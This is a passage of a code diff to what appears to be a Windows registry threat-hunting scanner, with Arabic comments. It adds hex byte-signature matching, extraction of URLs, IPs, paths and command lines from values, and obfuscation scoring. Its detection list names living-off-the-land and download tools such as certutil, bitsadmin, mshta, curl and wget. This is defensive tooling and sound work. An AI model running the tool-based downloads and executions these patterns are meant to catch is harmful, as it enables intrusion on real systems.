+            return t
+    return None
+
+class Utf16Views:
+    """
+    فك UTF-16LE لقيمة ثنائية بالمحاذاتين (النص قد يبدأ عند إزاحة فردية داخل الكتلة).
+    يُحسب عند أول شرط يحتاجه ويُشارك بين كل شروط القيمة، ولا يُفك شيء إن خلت من البايتات الصفرية.
+    """
+    __slots__ = ("_data", "_texts")
+
+    def __init__(self, data: bytes):
+        self._data = data
+        self._texts: Optional[Tuple[str, ...]] = None
+
+    def texts(self) -> Tuple[str, ...]:
+        if self._texts is None:
+            d = self._data
+            self._texts = tuple(d[off:].decode("utf-16-le", "ignore") for off in (0, 1)) if b"\x00" in d else ()
+        return self._texts
+
+def regex_search_bytes(pred: Dict[str, Any], data: bytes, wide: Optional[Utf16Views] = None) -> bool:
+    """
+    Regex القاعدة يُطبَّق على البايتات مباشرة (نسخة bytes تُبنى مرة وتُخزّن في المسند)،
+    ثم على فك UTF-16LE من wide (يُمرَّر من مستدعٍ يختبر عدة شروط على القيمة نفسها).
+    """
+    comp_b = pred.get("compiled_b")
+    if comp_b is None and "compiled_b" not in pred:
+        try:
+            comp_b = re.compile(str(pred.get("value", "")).encode("utf-8"), re.IGNORECASE)
+        except Exception:
+            comp_b = None
+        pred["compiled_b"] = comp_b
+    if comp_b is not None and comp_b.search(data):
+        return True
+    comp = pred.get("compiled")
+    if comp is not None and b"\x00" in data:
+        return any(comp.search(t) for t in (wide or Utf16Views(data)).texts())
+    return False
+
+# ================= تواقيع بايتات سداسية (Hex) مع محارف بدل وقفزات =================
+HEX_SIG_MAX_JUMP = 4096
+HEX_SIG_KEYS = {"hex", "signature", "signatures"}
+HEX_SIG_RE_ATOMS = 48      # حتى هذا العدد من الذرات يبحث عنها تعبير بدائل واحد داخل re؛ فوقه يتباطأ خطياً
+HEX_SIG_GRAM_BITS = 18     # جدول ثلاثيات البايتات المجزّأة في مرشح NumPy (256 KB)
+_HEX_SIG_TOKEN = re.compile(r"\s*(?:(\[)\s*(\d+)\s*(?:-\s*(\d+)\s*)?\]|([0-9A-Fa-f?]{2}))")
+
+def parse_hex_signature(text: str) -> List[Tuple[Any, ...]]:
+    """
+    صيغة شبيهة بـ YARA: "4D 5A ?? 00 [2-8] 5? ?5"
+    - بايتان سداسيان = بايت ثابت، "??" = أي بايت، "4?"/"?D" = نصف بايت ثابت
+    - "[n]" أو "[n-m]" = قفزة محدودة (m <= HEX_SIG_MAX_JUMP)
+    يُعيد قائمة عناصر: ("lit", bytes) | ("any",) | ("nib", mask, value) | ("jump", lo, hi)، ويرفع ValueError عند خطأ الصيغة.
+    """
+    body = text.strip()
+    if body.lower().startswith("hex:"):
+        body = body[4:]
+    body = body.strip().strip("{}")
+    items: List[Tuple[Any, ...]] = []
+    pos = 0
+    while pos < len(body):
+        if body[pos:].strip() == "":
+            break
+        m = _HEX_SIG_TOKEN.match(body, pos)
+        if not m:
+            raise ValueError(f"bad hex signature near: {body[pos:pos+8]!r}")
+        pos = m.end()
+        if m.group(1):
+            lo = int(m.group(2)); hi = int(m.group(3)) if m.group(3) is not None else lo
+            if hi < lo or hi > HEX_SIG_MAX_JUMP:
+                raise ValueError("unbounded or invalid jump")
+            items.append(("jump", lo, hi))
+            continue
+        pair = m.group(4)
+        if pair == "??":
+            items.append(("any",))
+        elif "?" in pair:
+            if pair[0] == "?":
+                items.append(("nib", 0x0F, int(pair[1], 16)))
+            else:
+                items.append(("nib", 0xF0, int(pair[0], 16) << 4))
+        else:
+            b = bytes([int(pair, 16)])
+            if items and items[-1][0] == "lit":
+                items[-1] = ("lit", items[-1][1] + b)
+            else:
+                items.append(("lit", b))
+    if not any(it[0] != "jump" for it in items):
+        raise ValueError("empty hex signature")
+    return items
+
+def _hex_item_regex(it: Tuple[Any, ...]) -> bytes:
+    kind = it[0]
+    if kind == "lit":
+        return re.escape(it[1])
+    if kind == "any":
+        return b"."
+    if kind == "nib":
+        mask, val = it[1], it[2]
+        return b"[" + b"".join(re.escape(bytes([v])) for v in range(256) if v & mask == val) + b"]"
+    return b".{%d,%d}?" % (it[1], it[2])
+
+def _hex_item_span(it: Tuple[Any, ...]) -> Tuple[int, int]:
+    if it[0] == "lit":
+        return len(it[1]), len(it[1])
+    if it[0] == "jump":
+        return it[1], it[2]
+    return 1, 1
+
+class AhoCorasick:
+    """آلة Aho-Corasick على البايتات: زمن المسح يتناسب مع طول القيمة لا مع عدد الأنماط."""
+    def __init__(self):
+        self.goto: List[Dict[int, int]] = [{}]
+        self.fail: List[int] = [0]
+        self.out: List[List[Tuple[Any, int]]] = [[]]
+        self.first_bytes = b""
+
+    def add(self, pattern: bytes, ident: Any):
+        s = 0
+        for c in pattern:
+            nxt = self.goto[s].get(c)
+            if nxt is None:
+                nxt = len(self.goto)
+                self.goto.append({}); self.fail.append(0); self.out.append([])
+                self.goto[s][c] = nxt
+            s = nxt
+        self.out[s].append((ident, len(pattern)))
+
+    def build(self):
+        from collections import deque
+        queue = deque(self.goto[0].values())
+        while queue:
+            r = queue.popleft()
+            for c, s in self.goto[r].items():
+                queue.append(s)
+                f = self.fail[r]
+                while f and c not in self.goto[f]:
+                    f = self.fail[f]
+                self.fail[s] = self.goto[f].get(c, 0)
+                self.out[s] = self.out[s] + self.out[self.fail[s]]
+        self.first_bytes = bytes(self.goto[0].keys())
+
+    def iter_matches(self, data: bytes):
+        # مرشح مسبق بسرعة C: إن لم يظهر أي بايت بداية نمط فلا داعي لتشغيل الآلة
+        if not self.first_bytes or len(data.translate(None, self.first_bytes)) == len(data):
+            return
+        goto, fail, out = self.goto, self.fail, self.out
+        s = 0
+        for i, c in enumerate(data):
+            while s and c not in goto[s]:
+                s = fail[s]
+            s = goto[s].get(c, 0)
+            if out[s]:
+                for ident, ln in out[s]:
+                    yield i - ln + 1, ident
+
+class SignatureMatcher:
+    """
+    يختار لكل توقيع أطول مقطع ثابت ("ذرّة")، ويبحث عن مواضع الذرات بسرعة C ثم يتحقق من التوقيع كاملاً
+    بتعبير bytes مُجمّع داخل نافذة محدودة حول كل موضع. البحث عن الذرات حسب عددها:
+    - قليلة (HEX_SIG_RE_ATOMS): تعبير بدائل واحد مرتب من الأطول.
+    - كثيرة مع NumPy: مرشح متجه على ثلاثيات/ثنائيات/بايتات القيمة ثم تأكيد الذرات عند المواضع المرشحة.
+    - كثيرة بلا NumPy: آلة Aho-Corasick (زمنها ثابت لكل بايت مهما كثرت الأنماط).
+    التواقيع الخالية من أي بايت ثابت تُتحقق مباشرة لكل قيمة.
+    """
+    def __init__(self, signatures: List[Tuple[Any, List[Tuple[Any, ...]]]]):
+        self._sigs: List[Tuple[Any, Any, int, int]] = []  # (owner, regex, prefix_max, atom_len + suffix_max)
+        self._always: List[int] = []
+        atoms: Dict[bytes, List[int]] = {}
+        for owner, items in signatures:
+            regex = re.compile(b"".join(_hex_item_regex(it) for it in items), re.DOTALL)
+            lits = [(len(it[1]), -i, i) for i, it in enumerate(items) if it[0] == "lit"]
+            sid = len(self._sigs)
+            if not lits:
+                self._sigs.append((owner, regex, 0, 0))
+                self._always.append(sid)
+                continue
+            _, _, ai = max(lits)
+            prefix_max = sum(_hex_item_span(it)[1] for it in items[:ai])
+            suffix_max = sum(_hex_item_span(it)[1] for it in items[ai + 1:])
+            self._sigs.append((owner, regex, prefix_max, len(items[ai][1]) + suffix_max))
+            atoms.setdefault(items[ai][1], []).append(sid)
+        self._atoms_re = None
+        self._grams: List[Tuple[int, Any, Dict[bytes, List[bytes]]]] = []
+        self._ac: Optional[AhoCorasick] = None
+        if len(atoms) <= HEX_SIG_RE_ATOMS:
+            # re يُعيد أطول ذرّة عند كل موضع، وأي ذرّة أخرى تبدأ عنده بادئة لها: تُلحق تواقيعها بها
+            self._atom_sids = {atom: [sid for k in range(len(atom), 0, -1) for sid in atoms.get(atom[:k], ())]
+                               for atom in atoms}
+            if atoms:
+                self._atoms_re = re.compile(b"|".join(re.escape(a) for a in sorted(atoms, key=len, reverse=True)))
+        elif HAVE_NUMPY:
+            self._atom_sids = atoms
+            for q in (1, 2, 3):
+                group = [a for a in atoms if min(len(a), 3) == q]
+                if not group:
+                    continue
+                table = np.zeros(1 << (HEX_SIG_GRAM_BITS if q == 3 else 8 * q), dtype=bool)
+                index: Dict[bytes, List[bytes]] = {}
+                for a in group:
+                    index.setdefault(a[:q], []).append(a)
+                keys = np.frombuffer(b"".join(index), dtype=np.uint8).reshape(-1, q)
+                table[self._gram_keys(keys, q)] = True
+                self._grams.append((q, table, index))
+        else:
+            self._ac = AhoCorasick()
+            for atom, sids in atoms.items():
+                for sid in sids:
+                    self._ac.add(atom, sid)
+            self._ac.build()
+
+    @staticmethod
+    def _gram_keys(cols, q: int):
+        """مفتاح الجدول لكل نافذة q بايت: البايت/الثنائي كما هو، والثلاثي مجزّأ إلى HEX_SIG_GRAM_BITS بت."""
+        key = cols[:, 0].astype(np.uint32)
+        for j in range(1, q):
+            key = (key << np.uint32(8)) | cols[:, j]
+        if q == 3:
+            key = (key * np.uint32(0x9E3779B1)) >> np.uint32(32 - HEX_SIG_GRAM_BITS)
+        return key
+
+    def _atom_hits(self, data: bytes):
+        """(موضع الذرّة، معرّفات تواقيعها) بترتيب الموضع تصاعدياً."""
+        if self._atoms_re is not None:
+            found = self._atoms_re.search(data)
+            while found is not None:
+                yield found.start(), self._atom_sids[found.group()]
+                # الموضع التالي لا بعد نهاية الذرّة: الذرات المتداخلة تبقى مرشحة
+                found = self._atoms_re.search(data, found.start() + 1)
+        elif self._grams:
+            v = np.frombuffer(data, dtype=np.uint8)
+            mask = np.zeros(len(v), dtype=bool)
+            for q, table, _ in self._grams:
+                if len(v) >= q:
+                    windows = np.lib.stride_tricks.as_strided(v, (len(v) - q + 1, q), (1, 1))
+                    mask[:len(v) - q + 1] |= table[self._gram_keys(windows, q)]
+            for pos in np.flatnonzero(mask).tolist():
+                sids = [sid for q, _, index in self._grams for atom in index.get(data[pos:pos + q], ())
+                        if data.startswith(atom, pos) for sid in self._atom_sids[atom]]
+                if sids:
+                    yield pos, sids
+        elif self._ac is not None:
+            for pos, sid in self._ac.iter_matches(data):
+                yield pos, (sid,)
+
+    def __bool__(self):
+        return bool(self._sigs)
+
+    def scan(self, data: bytes) -> Dict[Any, int]:
+        """يُعيد {المالك: أول إزاحة بايت مطابقة}."""
+        hits: Dict[Any, int] = {}
+        done: Set[int] = set()
+        for sid in self._always:
+            owner, regex, _, _ = self._sigs[sid]
+            m = regex.search(data)
+            done.add(sid)
+            if m and (owner not in hits or m.start() < hits[owner]):
+                hits[owner] = m.start()
+        for atom_start, sids in self._atom_hits(data):
+            for sid in sids:
+                if sid in done:
+                    continue
+                owner, regex, pre, tail = self._sigs[sid]
+                m = regex.search(data, max(0, atom_start - pre), atom_start + tail)
+                if m:
+                    done.add(sid)
+                    if owner not in hits or m.start() < hits[owner]:
+                        hits[owner] = m.start()
+            if len(done) == len(self._sigs):
+                break
+        return hits
+
 # ================= أدوات السجل =================
 HIVE_NAME_TO_CONST = {
     "HKLM": winreg.HKEY_LOCAL_MACHINE,
@@ -465,6 +1199,18 @@ def parse_registry_path(path: str) -> Tuple[Optional[int], str]:
         return None, p
     return hive, sub
 
+HIVE_CONST_TO_SHORT = {
+    winreg.HKEY_LOCAL_MACHINE: "HKLM",
+    winreg.HKEY_CURRENT_USER: "HKCU",
+    winreg.HKEY_CLASSES_ROOT: "HKCR",
+    winreg.HKEY_USERS: "HKU",
+    winreg.HKEY_CURRENT_CONFIG: "HKCC",
+}
+
+def format_key_path(hive_const: int, subkey: str) -> str:
+    name = HIVE_CONST_TO_SHORT.get(hive_const, str(hive_const))
+    return f"{name}\\{subkey}" if subkey else name
+
 def filetime_to_datetime(ft: int) -> Optional[datetime]:
     try:
         epoch_start = 116444736000000000
@@ -473,6 +1219,9 @@ def filetime_to_datetime(ft: int) -> Optional[datetime]:
     except Exception:
         return None
 
+def datetime_to_filetime(dt: datetime) -> int:
+    return int((dt - datetime(1970, 1, 1)).total_seconds() * 10_000_000) + 116444736000000000
+
 def reg_value_to_text(val, typ) -> str:
     try:
         if typ == winreg.REG_BINARY:
@@ -530,6 +1279,232 @@ class Criteria:
     mode_keywords: bool = True
     mode_rules: bool = False
     display_mode: str = "matched"  # "matched" or "all"
+    # وضع الأثر المنخفض: نوم تكيّفي بين المفاتيح + أولوية منخفضة
+    low_impact: bool = False
+    target_rate: int = 0  # مفتاح/ثانية، 0 = بلا حد
+    cpu_share: int = 25   # نسبة مئوية من نواة واحدة
+    # فتح المفاتيح الفرعية نسبةً لمقبض الأب المفتوح بدلاً من إعادة تحليل المسار من جذر الخلية
+    open_relative: bool = True
+    # حدود الإنهاء المبكر: عدد المطابقات الأقصى، أول مطابقة لكل جذر، وأعلى N حسب مستوى القاعدة
+    max_matches: int = 0
+    stop_on_first: bool = False
+    top_n: int = 0
+    # مسح نقاط التشغيل التلقائي فقط (ASEP_CATALOG) بدلاً من عبور الجذور
+    asep: bool = False
+    # تحميل NTUSER.DAT/UsrClass.dat للمستخدمين غير المسجّلين وفحصها ضمن HKU
+    offline_hives: bool = False
+    # ملفات سجل نصية (تصدير regedit أو system.reg/user.reg من Wine) تُفحص بدل السجل الحي
+    reg_files: List[str] = field(default_factory=list)
+    # ملف خط الأساس ("" = معطّل): مطابقاته تُكتم (suppress) أو تُنزَّل إلى آخر الترتيب (demote)
+    baseline: str = ""
+    baseline_mode: str = "suppress"
+    # ملفات خلاصات IOC المستوردة (IOC_DIR/*.ntreioc) تُطابق قيمها كالكلمات
+    ioc_feeds: List[str] = field(default_factory=list)
+    # مرحلة درجة التمويه (تتطلب NumPy): القيم التي تبلغ درجتها obf_threshold تُعد مطابقة
+    obfuscation: bool = False
+    obf_threshold: int = 60
+
+# ================ استخراج الأدلة من القيم بمرور واحد ================
+ARTIFACT_KINDS = ("path", "url", "ip", "domain", "b64", "cmd")
+ARTIFACT_COLUMNS = {f"art_{k}": k for k in ARTIFACT_KINDS}  # حقول الاستعلام -> النوع في جدول artifacts
+ARTIFACT_RULE_PREFIX = "artifact_"   # مفاتيح detection مثل artifact_url و artifact_cmd
+ARTIFACT_MAX_PER_KIND = 32
+ARTIFACT_MEMO_SIZE = 50000
+ARTIFACT_B64_MIN = 24
+ARTIFACT_TEXT_TYPES = (winreg.REG_SZ, winreg.REG_EXPAND_SZ, winreg.REG_MULTI_SZ)
+ARTIFACT_EXEC_EXTS = ("exe", "com", "bat", "cmd", "ps1", "psm1", "vbs", "vbe", "js", "jse", "wsf", "hta",
+                      "scr", "pif", "msi", "cpl", "lnk")
+ARTIFACT_FILE_EXTS = frozenset(ARTIFACT_EXEC_EXTS + (
+    "dll", "sys", "ocx", "drv", "tmp", "dat", "bin", "txt", "log", "ini", "inf", "xml", "json", "cfg",
+    "zip", "rar", "7z", "cab", "iso", "img", "vhd", "vhdx", "doc", "docx", "xls", "xlsx", "pdf", "jpg", "png"))
+ARTIFACT_SHELLS = ("powershell", "pwsh", "cmd", "rundll32", "regsvr32", "mshta", "wscript", "cscript", "msiexec",
+                   "certutil", "bitsadmin", "schtasks", "wmic", "forfiles", "curl", "wget")
+# نطاقات عليا عامة مقبولة؛ الرمزان الحرفيان (ccTLD) يُقبلان في النطاقات المكتوبة بأحرف صغيرة فقط
+ARTIFACT_TLDS = frozenset((
+    "com", "net", "org", "info", "biz", "gov", "edu", "mil", "int", "arpa", "local", "lan", "onion", "xyz",
+    "top", "online", "site", "club", "live", "app", "dev", "cloud", "tech", "store", "shop", "icu", "work",
+    "link", "click", "space", "website", "digital", "network", "services", "support", "email", "today"))
+
+_ART_DIR_CH = r"(?:(?!\.(?:" + "|".join(ARTIFACT_EXEC_EXTS) + r")\s)[^\\/:*?\"<>|\r\n;,\s]| (?![-/]))"
+_ART_OCTET = r"(?:25[0-5]|2[0-4]\d|1\d\d|[1-9]?\d)"
+# الترتيب مهم: الرابط قبل المسار، والمسار قبل النطاق، وIPv4 قبل النطاق وbase64
+_ARTIFACT_RX = re.compile(
+    r"(?P<url>\b(?:https?|hxxps?|ftp|wss?|smb|file)://[^\s\"'<>|^`{}]+)"
+    r"|\"(?P<qpath>(?:[A-Za-z]:\\|\\\\|%\w+%\\)[^\"\r\n]*)\""
+    r"|(?P<path>(?:(?<!\w)[A-Za-z]:\\|\\\\[\w.$-]+\\|%\w+%\\)(?:" + _ART_DIR_CH + r"+\\)*"
+    r"(?:" + _ART_DIR_CH + r"*?\.(?:" + "|".join(sorted(ARTIFACT_FILE_EXTS)) + r")(?![\w.])|[^\s\\/:*?\"<>|;,]*))"
+    r"|(?P<shell>\b(?:" + "|".join(ARTIFACT_SHELLS) + r")(?:\.exe)?)(?=[ \t]+(?:[-/\"]|[A-Za-z]:\\|%\w+%))"
+    r"|(?P<ip>(?<![\w.])" + _ART_OCTET + r"(?:\." + _ART_OCTET + r"){3}(?![\w.]*\w))"
+    r"|(?P<domain>(?<![\w.-])(?:[a-z0-9](?:[a-z0-9-]{0,61}[a-z0-9])?\.)+[a-z]{2,24}(?![\w-]))"
+    r"|(?P<b64>(?<![\w+/=])[A-Za-z0-9+/]{" + str(ARTIFACT_B64_MIN) + r",}={0,2}(?![\w+/=]))",
+    re.IGNORECASE)
+_ART_HEX = re.compile(r"[0-9A-Fa-f]+")
+
+def _artifact_host(host: str, found: Dict[str, List[str]]):
+    try:
+        ipaddress.ip_address(host)
+        found["ip"].append(host)
+    except ValueError:
+        if "." in host:
+            found["domain"].append(host)
+
+def _artifact_b64_ok(tok: str) -> bool:
+    # كتلة base64 حقيقية: طول صالح، ليست سداسية فقط، وتمزج الحالتين مع رقم أو +/ أو حشوة
+    if len(tok) % 4 or _ART_HEX.fullmatch(tok):
+        return False
+    if tok.isalpha() or tok.lower() == tok or tok.upper() == tok:
+        return False
+    if tok.isalnum() and not any(c.isdigit() for c in tok):
+        return False
+    try:
+        base64.b64decode(tok, validate=True)
+        return True
+    except Exception:
+        return False
+
+def extract_artifacts(text: str) -> Dict[str, Tuple[str, ...]]:
+    """
+    تمريرة finditer واحدة على النص بتعبير مجمّع بمجموعات مسماة بدلاً من Regex لكل نوع.
+    المسار التنفيذي المتبوع بوسائط (أو اسم مفسّر أوامر معروف) يُسجَّل أيضاً كسطر أوامر حتى نهاية السطر،
+    ومضيف الرابط يُضاف إلى ip/domain. يُعيد الأنواع غير الفارغة فقط، بلا تكرار وبترتيب الظهور.
+    """
+    if not text or len(text) < 4:
+        return {}
+    found: Dict[str, List[str]] = {k: [] for k in ARTIFACT_KINDS}
+    for m in _ARTIFACT_RX.finditer(text):
+        kind = m.lastgroup
+        tok = m.group(kind)
+        if kind == "url":
+            found["url"].append(tok)
+            try:
+                host = urlsplit("http" + tok[tok.index(":"):] if tok[:4].lower() == "hxxp" else tok).hostname
+            except ValueError:
+                host = None
+            if host:
+                _artifact_host(host, found)
+            continue
+        if kind == "ip":
+            # أرقام إصدارات التجميعات (Version=4.0.0.0) ليست عناوين
+            if not text[max(0, m.start() - 8):m.start()].lower().endswith("version="):
+                found["ip"].append(tok)
+            continue
+        if kind == "domain":
+            # ccTLD بحرفين يُقبل بأحرف صغيرة فقط حتى لا تُعد أسماء مثل System.IO نطاقات
+            tld = tok.rsplit(".", 1)[1]
+            if tld.lower() in ARTIFACT_TLDS or (len(tld) == 2 and tok.islower() and tld not in ARTIFACT_FILE_EXTS):
+                found["domain"].append(tok)
+            continue
+        if kind == "b64":
+            if _artifact_b64_ok(tok):
+                found["b64"].append(tok)
+            continue
+        if kind in ("path", "qpath"):
+            if len(tok) <= 3:
+                continue
+            found["path"].append(tok)
+            if tok.rpartition(".")[2].lower() not in ARTIFACT_EXEC_EXTS:
+                continue
+        # ملف تنفيذي أو مفسّر متبوع بوسائط على نفس السطر = سطر أوامر
+        eol = text.find("\n", m.end())
+        rest = text[m.end():eol if eol >= 0 else len(text)]
+        if rest[:1] in (" ", "\t") and rest.strip():
+            found["cmd"].append(text[m.start():m.end() + len(rest)].strip())
+    return {k: tuple(dict.fromkeys(v))[:ARTIFACT_MAX_PER_KIND] for k, v in found.items() if v}
+
+def artifact_predicate(kind: str, pattern: str) -> Dict[str, Any]:
+    """نمط قاعدة لنوع دليل: /regex/ أو نص بمحارف * (مطابقة كاملة دون حساسية لحالة الأحرف)."""
+    pattern = pattern.strip()
+    if len(pattern) >= 2 and pattern[0] == pattern[-1] == "/":
+        rx = pattern[1:-1]
+    else:
+        rx = "^" + ".*".join(re.escape(p) for p in pattern.split("*")) + "$"
+    return {"type": "art", "kind": kind, "value": pattern, "compiled": re.compile(rx, re.IGNORECASE | re.DOTALL)}
+
+def artifact_predicate_hit(pred: Dict[str, Any], artifacts: Optional[Dict[str, Tuple[str, ...]]]) -> bool:
+    comp = pred["compiled"]
+    return any(comp.search(a) for a in (artifacts or {}).get(pred["kind"], ()))
+
+def artifacts_text(artifacts: Optional[Dict[str, Tuple[str, ...]]]) -> str:
+    return "\n".join(f"{k}: {a}" for k in ARTIFACT_KINDS for a in (artifacts or {}).get(k, ()))
+
+# ================ درجة التمويه (إنتروبيا وأبجديات الترميز على دفعات NumPy) ================
+OBF_MIN_LEN = 64                    # بايتات؛ إنتروبيا العينات الأقصر غير مستقرة فلا تُقيَّم
+OBF_THRESHOLD_DEFAULT = 60          # الدرجة (0..100) التي تُعد عندها القيمة حمولة مشبوهة
+OBF_SAMPLE_MAX = 64 * 1024          # أقصى بايتات تُقرأ من قيمة واحدة
+OBF_BATCH_BYTES = 4 * 1024 * 1024   # حجم الدفعة الواحدة لـ bincount؛ الأكبر تُقسَّم
+OBF_BATCH_VALUES = 512              # قيم مرشحة تُجمع من عدة مفاتيح قبل تقييمها معاً
+OBF_BATCH_KEYS = 4096               # حد المفاتيح المؤجلة في الدفعة (تحدّ الذاكرة بين قيمتين مرشحتين متباعدتين)
+_OBF_B64 = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/="
+_OBF_HEX = b"0123456789abcdefABCDEF"
+_OBF_PRINT = bytes(range(0x20, 0x7F)) + b"\t\n\r"
+if HAVE_NUMPY:
+    def _obf_mask(chars: bytes) -> "np.ndarray":
+        mask = np.zeros(256, dtype=bool)
+        mask[np.frombuffer(chars, dtype=np.uint8)] = True
+        return mask
+    _OBF_B64_MASK, _OBF_HEX_MASK, _OBF_PRINT_MASK = _obf_mask(_OBF_B64), _obf_mask(_OBF_HEX), _obf_mask(_OBF_PRINT)
+
+def obfuscation_blob(vdata: Any, vtype: int) -> Optional[bytes]:
+    """البايتات التي تُقيَّم للقيمة: النصوص بترميز UTF-8 والقيم الثنائية كما هي؛ None للقصيرة والرقمية."""
+    if vtype in ARTIFACT_TEXT_TYPES:
+        text = "\n".join(vdata) if isinstance(vdata, list) else str(vdata)
+        if len(text) < OBF_MIN_LEN:
+            return None
+        return text[:OBF_SAMPLE_MAX].encode("utf-8", "surrogatepass")[:OBF_SAMPLE_MAX]
+    if isinstance(vdata, (bytes, bytearray)) and len(vdata) >= OBF_MIN_LEN:
+        return bytes(vdata[:OBF_SAMPLE_MAX])
+    return None
+
+def _obfuscation_batch(blobs: List[bytes], binary: List[bool]) -> List[int]:
+    n = len(blobs)
+    lens = np.fromiter(map(len, blobs), dtype=np.int64, count=n)
+    starts = np.zeros(n, dtype=np.int64)
+    np.cumsum(lens[:-1], out=starts[1:])
+    buf = np.frombuffer(b"".join(blobs), dtype=np.uint8)
+    # مدرّج بايتات كل القيم في استدعاء bincount واحد: الخانة = رقم القيمة * 256 + البايت
+    seg = np.repeat(np.arange(n, dtype=np.int64), lens)
+    hist = np.bincount(seg * 256 + buf, minlength=n * 256).reshape(n, 256)
+    p = hist / lens[:, None]
+    with np.errstate(divide="ignore", invalid="ignore"):
+        entropy = -np.where(hist > 0, p * np.log2(p), 0.0).sum(axis=1)
+    b64 = hist[:, _OBF_B64_MASK].sum(axis=1) / lens
+    hexr = hist[:, _OBF_HEX_MASK].sum(axis=1) / lens
+    # أطول مقطع قابل للطباعة: مجموع تراكمي يُصفَّر عند كل بايت غير قابل للطباعة وعند بداية كل قيمة
+    printable = _OBF_PRINT_MASK[buf]
+    csum = np.cumsum(printable, dtype=np.int64)
+    reset = ~printable
+    reset[starts] = True
+    last = np.maximum.accumulate(np.where(reset, np.arange(buf.size), 0))
+    longest = np.maximum.reduceat(csum - csum[last] + printable[last], starts) / lens
+    # نسبة غير القابل للطباعة بعد فك UTF-16LE (الحشوة الصفرية محايدة، والبايت الفردي الأخير يُهمل)
+    units = np.frombuffer(b"".join(b[:len(b) & ~1] for b in blobs), dtype="<u2")
+    ulens = lens // 2
+    bad = (units > 0x7E) | ((units < 0x20) & (units != 0) & (units != 9) & (units != 10) & (units != 13))
+    nonprint16 = np.bincount(np.repeat(np.arange(n), ulens), weights=bad, minlength=n) / np.maximum(ulens, 1)
+
+    size_w = np.minimum(1.0, np.log2(lens / OBF_MIN_LEN + 1) / 4)     # 64 بايت = 0.25، ~1 كيلوبايت = 1
+    ent_s = np.clip((entropy - 4.0) / 3.5, 0.0, 1.0)                  # نص عادي ~4 بت، مشفّر/مضغوط ~8
+    enc_s = np.maximum(b64, hexr) ** 8                                # أبجدية ترميز شبه خالصة فقط
+    text_s = 0.6 * enc_s + 0.4 * ent_s
+    # الثنائي: عشوائية لا تُقرأ كـ UTF-16، أو مقطع نصي طويل مرمَّز داخل الكتلة
+    bin_s = np.maximum(ent_s * nonprint16, longest * text_s)
+    raw = np.where(np.asarray(binary, dtype=bool), bin_s, text_s)
+    return np.rint(100 * size_w * raw).astype(np.int64).tolist()
+
+def obfuscation_scores(blobs: List[bytes], binary: List[bool]) -> List[int]:
+    """
+    درجة 0..100 لكل كتلة من إنتروبيا شانون ونسبتي أبجدية base64/السداسي وأطول مقطع قابل للطباعة
+    ونسبة غير القابل للطباعة في UTF-16، محسوبة بعمليات NumPy على الدفعة كلها دون حلقة Python لكل قيمة.
+    """
+    out: List[int] = []
+    i = 0
+    while i < len(blobs):
+        j, size = i, 0
+        while j < len(blobs) and (j == i or size + len(blobs[j]) <= OBF_BATCH_BYTES):
+            size += len(blobs[j]); j += 1
+        out.extend(_obfuscation_batch(blobs[i:j], binary[i:j]))
+        i = j
+    return out
 
 # ================ بنية القواعد المبسطة ================
 @dataclass
@@ -557,34 +1532,49 @@ def load_rules_from_filelist(filelist: List[Dict[str, Any]]) -> List[RuleSpec]:
             continue
         det = data.get("detection", {})
         preds: List[Dict[str, Any]] = []
+
+        def add_item(item: str, force_hex: bool = False, art_kind: str = ""):
+            # أنماط الأدلة المستخرجة: مفتاح detection باسم artifact_<نوع>
+            if art_kind:
+                try:
+                    preds.append(artifact_predicate(art_kind, item))
+                except re.error:
+                    pass
+                return
+            # تواقيع البايتات: بادئة "hex:" أو مفتاح detection باسم hex/signature(s)
+            if force_hex or item.strip().lower().startswith("hex:"):
+                try:
+                    preds.append({"type": "hex", "value": item.strip(), "sig": parse_hex_signature(item)})
+                except ValueError:
+                    pass
+                return
+            if any(sym in item for sym in ["^", ".*", "(", "\\", "$", "+", "?", "|"]):
+                try:
+                    comp = re.compile(item, re.IGNORECASE)
+                    preds.append({"type": "re", "value": item, "compiled": comp})
+                except Exception:
+                    preds.append({"type": "kw", "value": item})
+            else:
+                preds.append({"type": "kw", "value": item})
+
         if isinstance(det, dict):
-            for _, v in det.items():
+            for k, v in det.items():
+                key = str(k).strip().lower()
+                force_hex = key in HEX_SIG_KEYS
+                art_kind = key[len(ARTIFACT_RULE_PREFIX):] if key.startswith(ARTIFACT_RULE_PREFIX) else ""
+                if art_kind not in ARTIFACT_KINDS:
+                    art_kind = ""
                 if isinstance(v, list):
                     for item in v:
                         if isinstance(item, str):
-                            if any(sym in item for sym in ["^", ".*", "(", "\\", "$", "+", "?", "|"]):
-                                try:
-                                    comp = re.compile(item, re.IGNORECASE)
-                                    preds.append({"type": "re", "value": item, "compiled": comp})
-                                except Exception:
-                                    preds.append({"type": "kw", "value": item})
-                            else:
-                                preds.append({"type": "kw", "value": item})
+                            add_item(item, force_hex, art_kind)
                 elif isinstance(v, str):
-                    item = v
-                    if any(sym in item for sym in ["^", ".*", "(", "\\", "$", "+", "?", "|"]):
-                        try:
-                            comp = re.compile(item, re.IGNORECASE)
-                            preds.append({"type": "re", "value": item, "compiled": comp})
-                        except Exception:
-                            preds.append({"type": "kw", "value": item})
-                    else:
-                        preds.append({"type": "kw", "value": item})
+                    add_item(v, force_hex, art_kind)
         # إزالة التكرارات
         seen = set()
         uniq_preds: List[Dict[str, Any]] = []
         for p in preds:
-            key = ("re", p.get("value")) if p["type"] == "re" else ("kw", (p.get("value","") or ""))
+            key = (p["type"], p.get("kind", ""), p.get("value")) if p["type"] in ("re", "hex", "art") else ("kw", (p.get("value","") or ""))
             if key in seen:
                 continue
             seen.add(key)
@@ -592,22 +1582,44 @@ def load_rules_from_filelist(filelist: List[Dict[str, Any]]) -> List[RuleSpec]:
         specs.append(RuleSpec(path=path, title=title, level=level, enabled=True, predicates=uniq_preds))
     return specs
 
-def evaluate_rule_predicates(name: str, text: str, spec: RuleSpec) -> bool:
+def evaluate_rule_predicates(name: str, text: str, spec: RuleSpec, data: Optional[bytes] = None,
+                             artifacts: Optional[Dict[str, Tuple[str, ...]]] = None,
+                             wide: Optional[Utf16Views] = None) -> bool:
+    """
+    data: البايتات الخام لقيم REG_BINARY؛ عندها تُطابق القيمة على البايتات بدلاً من text.
+    wide: فك UTF-16LE المشترك لـ data (يُبنى هنا عند الحاجة إن لم يُمرَّر).
+    artifacts: ناتج extract_artifacts للقيمة، تُطابق عليه شروط artifact_<نوع>.
+    """
     if not spec.predicates:
         return False
     # تحسين: اختبار سريع عبر فهرس داخلي سيُبنى في الخيط (تمت الاستفادة منه هناك)
     for p in spec.predicates:
